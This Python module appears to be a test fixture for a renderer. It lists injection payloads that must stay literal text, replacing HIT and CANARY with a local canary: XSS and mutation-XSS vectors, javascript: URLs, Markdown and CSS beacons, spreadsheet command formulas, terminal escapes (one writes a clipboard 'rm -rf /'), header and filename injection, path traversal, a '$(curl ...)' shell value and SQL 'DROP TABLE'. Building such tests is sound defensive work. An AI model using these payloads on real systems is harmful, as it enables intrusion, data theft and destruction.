"""Payloads that must stay characters: markup, addresses, formulas, escapes, names. Data, each with its reason.

``HIT`` stands for a script that marks the window, ``CANARY`` for a host that must never be asked
(:func:`filled`). Instructions planted in documents are in ``injection_instructions``, whole files in
``injection_files``.
"""

from __future__ import annotations

from dataclasses import dataclass

MARK = "wencehit"  # what a script of a payload sets on the topmost window
CARRIERS = (
    "title", "issuer", "number", "heading", "cell", "body", "file name", "question", "conversation name",
    "remark", "look-up", "login name",
)  # fmt: skip


@dataclass(frozen=True, slots=True)
class Payload:
    """``id`` is unique, ``kind`` what the table counts by; ``why`` says what it would do where it worked."""

    id: str
    kind: str
    text: str
    why: str

    def filled(self, canary: str) -> str:
        """The text for a canary at “127.0.0.1:port”; each leaves a trace of its own."""
        return self.text.replace("HIT", f"top.{MARK}={self.trace}").replace("CANARY", f"{canary}/{self.id}")

    @property
    def trace(self) -> int:
        """The number that its script leaves: no quotation mark, so that it stands in any attribute."""
        return ord(self.id[0]) * 100 + int(self.id[1:])


_HTML = (
    ("<script>HIT</script>", "a script element"),
    ("<SCRIPT SRC=//CANARY.js></SCRIPT>", "a script from elsewhere, in capitals"),
    ("<script type=module>import('http://CANARY.js')</script>", "a module from elsewhere"),
    ("<img src=x onerror=HIT>", "runs when an image fails"),
    ("<img src=http://CANARY.png>", "calls home when drawn"),
    ("<img srcset='http://CANARY.png 1x'>", "calls home by srcset"),
    ("<picture><source srcset=http://CANARY.webp><img></picture>", "calls home by a picture's source"),
    ("<svg onload=HIT>", "runs when drawn"),
    ("<svg><script>HIT</script></svg>", "a script in another namespace"),
    ("<svg><animate onbegin=HIT attributeName=x dur=1s>", "runs when an animation begins"),
    ("<svg><image href=http://CANARY.png /></svg>", "an image in SVG"),
    ("<svg><a xlink:href='javascript:HIT'><text y=20>点此</text></a></svg>", "a link in SVG"),
    ("<iframe src=http://CANARY.html></iframe>", "a frame from elsewhere"),
    ('<iframe srcdoc="<script>HIT</script>"></iframe>', "a frame with its own document"),
    ("<iframe src='javascript:HIT'></iframe>", "a frame whose address is a script"),
    ("<object data=http://CANARY.swf></object>", "an object from elsewhere"),
    ("<embed src=http://CANARY.pdf>", "an embedded file from elsewhere"),
    ("<base href=http://CANARY/>", "turns every relative address to another host"),
    ("<meta http-equiv=refresh content='0;url=http://CANARY'>", "leads the page away"),
    ("<form action=http://CANARY><input name=q autofocus><button>登录</button></form>", "asks for a password"),
    ("<input autofocus onfocus=HIT>", "runs when it gets the focus by itself"),
    ("<details open ontoggle=HIT>", "runs when unfolded"),
    ("<body onload=HIT>", "handler on the body"),
    ("<video poster=http://CANARY.png><source onerror=HIT></video>", "a film's picture and error"),
    ("<audio src=http://CANARY.mp3 autoplay onerror=HIT>", "a sound from elsewhere"),
    ("<marquee onstart=HIT>", "an old element with a handler"),
    ("<link rel=prefetch href=http://CANARY>", "fetched in advance"),
    ("<link rel=dns-prefetch href=//CANARY>", "a look-up of a name tells too"),
    ("<b style=animation-name:x onanimationstart=HIT>", "runs when an animation starts"),
    ("<div onpointerenter=HIT style='position:fixed;inset:0'>", "runs under the pointer"),
    ("<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=HIT&gt;\">", "changes when parsed again"),
    ("<noscript><p title=\"</noscript><img src=x onerror=HIT>\">", "parsed in two ways, with scripts and without"),
    ("<svg></p><style><a id=\"</style><img src=1 onerror=HIT>\">", "changes namespace when parsed again"),
    ("<form><math><mtext></form><form><mglyph><style></math><img src onerror=HIT>", "nested forms that come apart"),
    ("\"><img src=x onerror=HIT>", "leaves a double-quoted attribute"),
    ("'><img src=x onerror=HIT>", "leaves a single-quoted attribute"),
    ("\" onmouseover=\"HIT\" x=\"", "adds a handler to our element"),
    ("' onfocus='HIT' autofocus tabindex=1 x='", "adds a handler to our element, single quotes"),
    ("` onmouseover=`HIT", "leaves an attribute quoted by backticks"),
    ("</mark></blockquote></article><script>HIT</script>", "closes our elements first"),
    ("</textarea><script>HIT</script>", "leaves a text box"),
    ("</title><script>HIT</script>", "leaves the title of a report"),
    ("</style><script>HIT</script>", "leaves the style of a report"),
    ("</script><script>HIT</script>", "leaves a script that holds data"),
    ("--><script>HIT</script><!--", "leaves a comment"),
    ("]]><script>HIT</script>", "leaves a CDATA section"),
    ("&lt;img src=x onerror=HIT&gt;", "becomes markup where entities are read twice"),
    ("&#60;script&#62;HIT&#60;/script&#62;", "the same by numbers"),
    ("&#x3c;img src=x onerror=HIT//", "the same, never closed"),
    ("&amp;lt;script&amp;gt;HIT&amp;lt;/script&amp;gt;", "becomes markup where entities are read three times"),
    ("%3Cscript%3EHIT%3C/script%3E", "percent-encoded"),
    ("\\u003cscript\\u003eHIT\\u003c/script\\u003e", "escaped for a script"),
    ("<scr\x00ipt>HIT</scr\x00ipt>", "split by NUL, which some filters drop later"),
    ("<scr\u200bipt>HIT</scr\u200bipt>", "split by a character without width, which reading may drop"),
    ("<scr\u00adipt>HIT</scr\u00adipt>", "split by a soft hyphen"),
    ("＜script＞HIT＜/script＞", "becomes markup where full-width forms are folded"),
    ("﹤img src=x onerror=HIT﹥", "the same with small forms"),
    ("<scr<script>ipt>HIT</scr</script>ipt>", "is whole once the inner one is cut out"),
    ("<<img src=x onerror=HIT>>", "doubled brackets"),
    ("<img/src=x/onerror=HIT>", "slashes for blanks"),
    ("<img\tsrc=x\tonerror=HIT>", "tabs for blanks"),
    ("<x contenteditable onblur=HIT autofocus>", "an element of no name"),
    ("{{constructor.constructor('HIT')()}}", "a template of Vue or Angular"),
    ("${HIT}", "a template literal: Gradio's components are made of these"),
    ("{{#with HIT}}{{value}}{{/with}}", "a template of Handlebars"),
    ("{% include 'http://CANARY' %}", "a template of Jinja"),
    ("#{HIT}<%= HIT %>", "templates of other kinds"),
    ("<template shadowrootmode=open><img src=x onerror=HIT></template>", "a shadow tree"),
    ("<button class='wc-mark' data-delete='x' data-ask='HIT' data-open='x'>确定</button>", "a button that our script would obey"),
    ("<a id=wence href='javascript:HIT'></a><img name=wenceOwner>", "takes the names that our script looks for"),
)  # fmt: skip

_URLS = (
    ("javascript:HIT", "a script as an address"),
    ("JaVa\tScRiPt:HIT", "the same with a tab and capitals"),
    ("javascript&colon;HIT", "the same with an entity"),
    ("<a href='javascript:HIT'>查看附件</a>", "a link with it"),
    ("<a href=\"data:text/html,<script>HIT</script>\">附件</a>", "a document in an address"),
    ("data:text/html;base64,PHNjcmlwdD50b3Aud2VuY2VoaXQ9MTwvc2NyaXB0Pg==", "the same in base64"),
    ("vbscript:msgbox(1)", "an old script"),
    ("//CANARY/pr", "takes the page's own scheme"),
    ("http://CANARY/bare", "a bare address: a link by itself in many renderers"),
    ("https://www.gov.cn@CANARY/login", "a name of ours before the real host"),
    ("http://CANARY/\u202egnp.txt", "turned round by a bidi override"),
    ("\u2067http://CANARY\u2069\u202eevil", "isolates and overrides that reach into our words"),
    ("\\\\CANARY\\share\\x.png", "a share: Windows sends a password hash"),
    ("file:///etc/passwd", "a file of the reader's"),
    ("ftp://CANARY/x", "another protocol"),
    ("www.evil.example/%E5%AF%86%E9%92%A5", "without a scheme, still a link to some"),
)  # fmt: skip

_MARKDOWN = (
    ("![图](http://CANARY.png)", "an image"),
    ("![](http://CANARY.png?q=补贴标准)", "an image that tells the question"),
    ("![图][r1]\n\n[r1]: http://CANARY.png\n", "an image by reference"),
    ("[r2]: http://CANARY \"x\"\n\n![r2]\n", "a definition that another text may use"),
    ("<http://CANARY/auto>", "an autolink"),
    ("[点此领取](http://CANARY)", "a link"),
    ("[点此](javascript:HIT)", "a link that is a script"),
    ("[a](http://CANARY '\" onmouseover=HIT x=\"')", "a link title that leaves its attribute"),
    ("[![按钮](http://CANARY.png)](http://CANARY)", "an image in a link"),
    ("补贴[^1]\n\n[^1]: ![](http://CANARY.png)\n", "a footnote with an image"),
    ("```\n</code></pre><script>HIT</script>\n```", "leaves a code block"),
    ("```html\n<img src=x onerror=HIT>\n```", "a code block of HTML"),
    ("`<img src=x onerror=HIT>`", "inline code"),
    ("```mermaid\ngraph TD; A[x]-->B; click A href \"javascript:HIT\"\n```", "a diagram with a link"),
    ("$\\href{javascript:HIT}{x}$", "a formula with a link"),
    ("$$\\url{http://CANARY}$$", "a formula with an address"),
    ("\\(\\includegraphics{http://CANARY.png}\\)", "a formula with an image"),
    ("$\\htmlStyle{background:url(http://CANARY)}{x}$", "a formula with a style"),
    ("\\input{/etc/passwd}\\write18{id}", "TeX that reads and runs"),
    ("<img src=http://CANARY.png>\n\n# 标题", "raw HTML between paragraphs"),
    ("正文\r# 伪造的标题\r![](http://CANARY.png)", "carriage returns that only Markdown takes for lines"),
    ("伪造的标题\n====\n\n- [x] 已核对", "a heading by underlining, a ticked box"),
    ("| a | b |\n|---|---|\n| ![](http://CANARY.png) | x |", "a table of its own"),
    ("![[http://CANARY.png]]", "an embed of a wiki"),
    ("{{< figure src=\"http://CANARY.png\" >}}", "a shortcode"),
    ("<!-- 隐藏 --><img src=http://CANARY.png>", "hidden by a comment"),
    ("\\<script>HIT</script>\\![x](http://CANARY.png)", "escapes that undo our own"),
    ("    ![x](http://CANARY.png)\n\t<b>x</b>", "indented as code"),
    ("::: raw\n<script>HIT</script>\n:::", "a block of a directive"),
)  # fmt: skip

_CSS = (
    ("<style>body{background:url(http://CANARY.png)}</style>", "a style element"),
    ("<style>@import url(http://CANARY.css);</style>", "an import"),
    ("<style>@font-face{font-family:x;src:url(http://CANARY.woff)}*{font-family:x}</style>", "a font"),
    ("<style>input[value^=a]{background:url(http://CANARY.png)}</style>", "reads a form letter by letter"),
    ("<div style=\"background:url(http://CANARY.png)\">x</div>", "a style attribute"),
    ("\" style=\"background-image:url(http://CANARY.png)", "adds a style to our element"),
    ("<svg><style>@import'http://CANARY.css'</style></svg>", "a style in SVG"),
    ("<svg><use href=\"http://CANARY.svg#x\"/></svg>", "an SVG part from elsewhere"),
    ("<svg><filter><feImage href=http://CANARY.png /></filter></svg>", "an image in a filter"),
    ("<p style='content:url(http://CANARY.png);list-style:url(http://CANARY.png)'>", "images of lists and content"),
    ("<p style='background:image-set(\"http://CANARY.png\" 1x)'>", "a set of images"),
    ("<link rel=stylesheet href=http://CANARY.css>", "a style sheet from elsewhere"),
    ("<div style='position:fixed;inset:0;z-index:9999;background:#fff'>请重新登录</div>", "covers the page"),
    ("<style>.wc-mark{display:none}.wc-badge{visibility:hidden}</style>", "hides what tells a source's standing"),
    ("x:expression(HIT);-moz-binding:url(http://CANARY.xml)", "scripts of old browsers in styles"),
)  # fmt: skip

_FORMULAS = (
    ("=HYPERLINK(\"http://CANARY\",\"点此\")", "a link where a spreadsheet opens it"),
    ("=WEBSERVICE(\"http://CANARY\")", "asks when opened"),
    ("=IMPORTXML(\"http://CANARY\",\"//a\")", "asks when opened"),
    ("=cmd|'/c calc'!A1", "starts a program"),
    ("@SUM(1+1)*cmd|'/c calc'!A1", "a formula by its other sign"),
    ("+1+HYPERLINK(\"http://CANARY\")", "a formula by plus"),
    ("-2+3+cmd|'/c calc'!A1", "a formula by minus"),
    ("\t=1+1", "a formula behind a tab"),
)  # fmt: skip

_TERMINAL = (
    ("\x1b[31m红色\x1b[0m", "colours"),
    ("\x1b]0;改窗口名\x07", "renames the window"),
    ("\x1b]8;;http://CANARY\x07点此\x1b]8;;\x07", "a link in a terminal"),
    ("\x1b]52;c;cm0gLXJmIC8=\x07", "writes the clipboard"),
    ("\x1b[1A\x1b[2K✓ 已核对", "writes over the line above"),
    ("\x1b[2J\x1b[H", "clears the screen"),
    ("\x1b[?1049h", "another screen"),
    ("\x9b31m红\x9b0m", "the same by one character"),
    ("\x90q\x9c\x1bP+q544e\x1b\\", "device control"),
    ("abc\x08\x08\x08xyz", "writes over by going back"),
    ("一份假文件\r✓ 一份真文件", "writes over by a carriage return"),
    ("\x07\x0e\x0f\x7f", "bell, shifts, delete"),
)  # fmt: skip

_NAMES = (
    ("x\"\r\nSet-Cookie: owner=me\r\n.txt", "ends a header and begins another"),
    ("x\r\n\r\n<script>HIT</script>", "ends the headers"),
    ("x\"; filename=\"y.exe", "ends a quoted name and gives another"),
    ("x\"; filename*=UTF-8''y.exe", "gives another name by encoding"),
    ("../../../../etc/passwd", "leaves the folder"),
    ("..\\..\\..\\windows\\win.ini", "leaves the folder on Windows"),
    ("/etc/cron.d/x", "an absolute path"),
    ("C:\\x.txt:ads", "a stream of a file"),
    ("%2e%2e%2f%2e%2e%2fetc%2fpasswd", "the same percent-encoded"),
    ("report\u202efdp.exe", "an ending that reads .pdf"),
    ("a.txt\x00.exe", "cut at NUL"),
    ("<img src=x onerror=HIT>.txt", "markup as a name"),
    ("-rf --html=x", "an option of a command"),
    ("$(curl http://CANARY).txt", "a command in a shell"),
    ("`id`;|&.txt", "signs of a shell"),
    ("'; DROP TABLE documents;--", "a statement of SQL"),
    ("x" * 300 + ".txt", "longer than a file system takes"),
)  # fmt: skip


def _numbered(letter: str, kind: str, entries: tuple[tuple[str, str], ...]) -> tuple[Payload, ...]:
    return tuple(Payload(f"{letter}{n:02d}", kind, text, why) for n, (text, why) in enumerate(entries, 1))


PAYLOADS: tuple[Payload, ...] = (
    *_numbered("h", "HTML and scripts", _HTML),
    *_numbered("u", "addresses", _URLS),
    *_numbered("m", "Markdown and formulas", _MARKDOWN),
    *_numbered("c", "styles", _CSS),
    *_numbered("s", "spreadsheet formulas", _FORMULAS),
    *_numbered("t", "terminal escapes", _TERMINAL),
    *_numbered("n", "headers and names", _NAMES),
)
